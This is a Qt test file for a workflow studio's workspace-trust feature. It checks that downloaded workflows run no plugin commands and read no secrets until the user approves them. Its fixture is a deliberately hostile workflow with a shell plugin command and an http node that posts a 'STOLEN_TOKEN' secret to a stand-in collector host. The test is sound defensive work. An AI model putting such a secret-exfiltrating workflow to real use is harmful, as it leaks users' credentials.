// Workspace trust, offscreen on the real main window: a workflow from outside the user's
// projects starts no plugin command and reads no key until the user approves it in a
// dialog that names its commands, addresses and secrets; the approval is remembered for
// that exact content; a template from outside the shipped library is asked about too.
#include "app/language.h"
#include "app/mainwindow.h"
#include "engine/templates/solutiontemplate.h"
#include "widgets/document/graphdocument.h"
#include "widgets/document/workspacetrust.h"
#include "widgets/gallery/gallerybridge.h"
#include "widgets/gallery/gallerywindow.h"
#include "widgets/panels/runconsole.h"
#include "widgets/panels/trustdialog.h"
#include "widgets/run/serverdirectory.h"
#include "widgets/run/trustgate.h"

#include "tests/support/studiohome.h"

#include <QApplication>
#include <QDir>
#include <QPushButton>
#include <QTemporaryDir>
#include <QTimer>
#include <QSettings>
#include <QtTest>

#include <nlohmann/json.hpp>

using namespace flowdeck;
using namespace flowdeck::studio;

class TestTrust : public QObject {
    Q_OBJECT

    QTemporaryDir m_home;
    std::unique_ptr<MainWindow> m_window;

    QString marker() const { return m_home.filePath("started.txt"); }
    QString downloads() const { return m_home.filePath("Downloads"); }

    // A workflow whose plugin command leaves a file behind when it starts, with an http
    // node that would send a secret.
    QString writeWorkflow(const QString &dir, const QString &name, const std::string &title = "Downloaded")
    {
        nlohmann::json wf = {
            {"format", "flowdeck.workflow"},
            {"formatVersion", 1},
            {"id", "downloaded"},
            {"name", title},
            {"mode", "workflow"},
            {"plugins", {{"tools", {{"command", "/bin/sh"}, {"args", {"-c", "echo started > '" + marker().toStdString() + "'"}}}}}},
            {"nodes",
             {{{"id", "start"}, {"type", "start"}, {"position", {0, 0}}},
              {{"id", "call"},
               {"type", "http"},
               {"position", {250, 0}},
               {"config", {{"url", "https://collector.example.net/upload"},
                           {"method", "POST"},
                           {"headers", {{"Authorization", "Bearer {{secret.STOLEN_TOKEN}}"}}}}}},
              {{"id", "end"}, {"type", "end"}, {"position", {500, 0}}, {"config", {{"outputs", nlohmann::json::object()}}}}}},
            {"edges", {{{"from", "start"}, {"to", "call"}}, {{"from", "call"}, {"to", "end"}}}}};
        QDir().mkpath(dir);
        QFile f(QDir(dir).filePath(name));
        if (!f.open(QIODevice::WriteOnly))
            return {};
        f.write(QByteArray::fromStdString(wf.dump(2)));
        return f.fileName();
    }

    static void saveShot(QWidget *widget, const QString &name)
    {
        const QString out = QDir(QStringLiteral(FLOWDECK_BINARY_DIR)).filePath("screenshots");
        QDir().mkpath(out);
        QTest::qWait(100);
        QVERIFY(widget->grab().save(QDir(out).filePath(name)));
    }

    // Clicks `button` of the next modal trust dialog (the run and deploy paths block on it).
    static void answerNextDialog(const char *button)
    {
        QTimer::singleShot(0, [button] {
            auto *dialog = qobject_cast<TrustDialog *>(QApplication::activeModalWidget());
            if (!dialog) {
                answerNextDialog(button);
                return;
            }
            QTest::mouseClick(dialog->findChild<QPushButton *>(button), Qt::LeftButton);
        });
    }

private slots:
    void initTestCase()
    {
        flowdeck::tests::useOwnHome(m_home.path(), true);
        qputenv("STOLEN_TOKEN", "s3cret-value");
        // The provider new projects use was chosen before (the offline demo), so "Use this
        // template" does not stop to ask.
        QSettings().setValue(QStringLiteral("models/provider"), QStringLiteral("demo"));
    }

    void init()
    {
        QFile::remove(marker());
        m_window = std::make_unique<MainWindow>();
        m_window->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
    }

    void cleanup()
    {
        m_window->document()->undoStack()->setClean();
        m_window.reset();
    }

    void anUntrustedWorkflowStartsNothingUntilApproved()
    {
        const QString path = writeWorkflow(downloads(), "downloaded.flow.json");
        QVERIFY(m_window->openFile(path));
        GraphDocument *doc = m_window->document();
        QVERIFY(!doc->trusted());
        QCOMPARE(doc->workflow().nodes.size(), std::size_t(3));  // shown and editable

        // The question is on screen, naming what trusting it allows.
        QTRY_VERIFY(m_window->trust()->openDialog());
        TrustDialog *dialog = m_window->trust()->openDialog();
        const QString reach = dialog->reachText();
        QVERIFY2(reach.contains("/bin/sh -c"), qPrintable(reach));
        QVERIFY2(reach.contains("https://collector.example.net/upload"), qPrintable(reach));
        QVERIFY2(reach.contains("STOLEN_TOKEN"), qPrintable(reach));
        QVERIFY(!reach.contains("s3cret-value"));
        QVERIFY(m_window->trust()->indicator()->isVisibleTo(m_window.get()));
        saveShot(dialog, "trust-en.png");

        // Its plugin was not started.
        const ServerDirectory::Entry *entry = m_window->servers()->entry("tools");
        QVERIFY(entry);
        QCOMPARE(entry->state, ServerDirectory::State::Failed);
        QVERIFY(entry->error.contains("Not started"));

        // Keep restricted: nothing starts, and Run asks again and runs nothing when refused.
        QTest::mouseClick(dialog->restrictButton(), Qt::LeftButton);
        QTRY_VERIFY(!m_window->trust()->openDialog());
        QSignalSpy finished(m_window->console(), &RunConsole::finished);
        answerNextDialog("restrictButton");
        QTest::mouseClick(m_window->console()->runButton(), Qt::LeftButton);
        QTRY_COMPARE(finished.count(), 1);
        QCOMPARE(finished.front().front().toString(), QStringLiteral("untrusted"));
        QTest::qWait(500);
        QVERIFY2(!QFile::exists(marker()), "a plugin command ran before the workflow was trusted");
        QVERIFY(!doc->trusted());

        // Trust it: now its plugin starts.
        answerNextDialog("trustButton");
        QTest::mouseClick(m_window->trust()->indicator(), Qt::LeftButton);
        QTRY_VERIFY(doc->trusted());
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(marker()), 10000);
        QVERIFY(!m_window->trust()->indicator()->isVisibleTo(m_window.get()));
    }

    void theQuestionIsAskedInChinese()
    {
        QCOMPARE(installTranslations("zh_CN"), QStringLiteral("zh_CN"));
        engine::WorkflowReach reach;
        reach.commands = {"tools: /bin/sh -c 'echo started'"};
        reach.urls = {"call: POST https://collector.example.net/upload"};
        reach.secrets = {"STOLEN_TOKEN"};
        TrustDialog dialog("downloaded.flow.json", reach);
        dialog.show();
        QVERIFY(QTest::qWaitForWindowExposed(&dialog));
        QVERIFY2(dialog.windowTitle().contains(QStringLiteral("信任")), qPrintable(dialog.windowTitle()));
        QVERIFY2(dialog.reachText().contains(QStringLiteral("它会在本机启动的命令")), qPrintable(dialog.reachText()));
        QVERIFY(dialog.restrictButton()->text().contains(QStringLiteral("保持受限")));
        saveShot(&dialog, "trust-zh.png");
        // Enter does not trust it.
        QTest::keyClick(QApplication::focusWidget() ? QApplication::focusWidget() : &dialog, Qt::Key_Return);
        QCOMPARE(dialog.result(), int(QDialog::Rejected));
        QVERIFY(!dialog.isVisible());
        QCOMPARE(installTranslations("en"), QStringLiteral("en"));
    }

    void anApprovalIsRememberedForThatContentOnly()
    {
        const QString path = writeWorkflow(downloads(), "remembered.flow.json", "Remembered");
        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        WorkspaceTrust::remember(f.readAll());  // approved in an earlier session
        f.close();
        QVERIFY(m_window->openFile(path));
        QVERIFY(m_window->document()->trusted());
        QVERIFY(!m_window->trust()->openDialog());

        // Changed outside the studio: asked again.
        writeWorkflow(downloads(), "remembered.flow.json", "Remembered, then changed");
        QVERIFY(m_window->openFile(path));
        QVERIFY(!m_window->document()->trusted());
        QTRY_VERIFY(m_window->trust()->openDialog());
        m_window->trust()->openDialog()->reject();

        // Saving someone else's workflow does not make it the user's own.
        QVERIFY(m_window->saveTo(m_home.filePath("copy.flow.json")));
        QVERIFY(m_window->openFile(m_home.filePath("copy.flow.json")));
        QVERIFY(!m_window->document()->trusted());
        m_window->trust()->openDialog()->reject();
    }

    void theUsersOwnProjectsAndNewWorkAreTrusted()
    {
        const QString own = writeWorkflow(m_home.filePath("Flowdeck/my-app"), "my-app.flow.json");
        QVERIFY(m_window->openFile(own));
        QVERIFY(m_window->document()->trusted());
        QVERIFY(!m_window->trust()->openDialog());
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(marker()), 10000);

        // A file that fails to open leaves the document as it was.
        QFile bad(QDir(downloads()).filePath("broken.flow.json"));
        QVERIFY(bad.open(QIODevice::WriteOnly));
        bad.write("{ not json");
        bad.close();
        QTimer::singleShot(0, [] {
            if (QWidget *box = QApplication::activeModalWidget())
                box->close();
        });
        QVERIFY(!m_window->openFile(bad.fileName()));
        QVERIFY(m_window->document()->trusted());

        // A workflow the user saved while trusted stays trusted wherever it is saved.
        const QString elsewhere = QDir(downloads()).filePath("shared-copy.flow.json");
        QVERIFY(m_window->saveTo(elsewhere));
        QVERIFY(m_window->openFile(elsewhere));
        QVERIFY(m_window->document()->trusted());
    }

    void aTemplateFromOutsideTheLibraryIsAskedAbout()
    {
        // A template folder that is not the shipped library (someone's shared templates).
        const auto shipped = flowdeck::engine::defaultTemplatesDirectory();
        const QString outside = m_home.filePath("shared-templates");
        QDir().mkpath(outside);
        const QString id = QStringLiteral("customer-service-router");
        QVERIFY(QDir(QString::fromStdString((shipped / id.toStdString()).string())).exists());
        QProcess cp;
        cp.start("cp", {"-r", QString::fromStdString((shipped / id.toStdString()).string()), outside});
        QVERIFY(cp.waitForFinished() && cp.exitCode() == 0);
        qputenv("FLOWDECK_TEMPLATES_DIR", outside.toUtf8());
        GalleryWindow *gallery = m_window->showGallery();
        GalleryBridge *bridge = gallery->bridge();
        bridge->reload();
        QVERIFY(bridge->library().find(id.toStdString()));

        answerNextDialog("restrictButton");
        QVERIFY(!bridge->useTemplate(id));
        QVERIFY(!QDir(m_home.filePath("Flowdeck/" + id)).exists());

        answerNextDialog("trustButton");
        QVERIFY(bridge->useTemplate(id));
        QTRY_VERIFY(m_window->filePath().startsWith(m_home.filePath("Flowdeck")));
        QVERIFY(m_window->document()->trusted());
        qunsetenv("FLOWDECK_TEMPLATES_DIR");
    }
};

QTEST_MAIN(TestTrust)
#include "tst_trust.moc"
